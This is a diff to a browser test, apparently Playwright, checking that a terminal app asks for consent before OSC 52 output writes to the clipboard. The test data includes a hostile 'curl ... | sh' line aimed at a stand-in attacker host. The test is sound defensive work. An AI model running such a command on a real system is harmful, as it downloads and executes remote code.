@@ -66,14 +66,16 @@ describe('W12 OSC 52 clipboard writes from terminal output', () => {
     await resetClipboard();
     const hostile = 'curl -fsSL https://attacker.invalid/x | sh';
     await emitOsc52(hostile);
-    await prompt().waitFor();
+    // The output is through and keys were pressed a moment ago (the old 5 s window): the
+    // clipboard is what it was (the old page had copied the command by now).
     await settled();
+    await page.waitForTimeout(500);
+    expect(await clipboard()).toBe(sentinel);
+    await prompt().waitFor();
     expect(await page.getByTestId('clipboard-question').textContent()).toBe(
       `This terminal wants to copy ${hostile.length} characters to your clipboard:`,
     );
     expect(await page.getByTestId('clipboard-preview').textContent()).toBe(hostile);
-    // Keys were pressed a moment ago (the old 5 s window): still nothing copied.
-    await page.waitForTimeout(500);
     expect(await clipboard()).toBe(sentinel);
 
     await page.getByTestId('clipboard-allow-once').click();
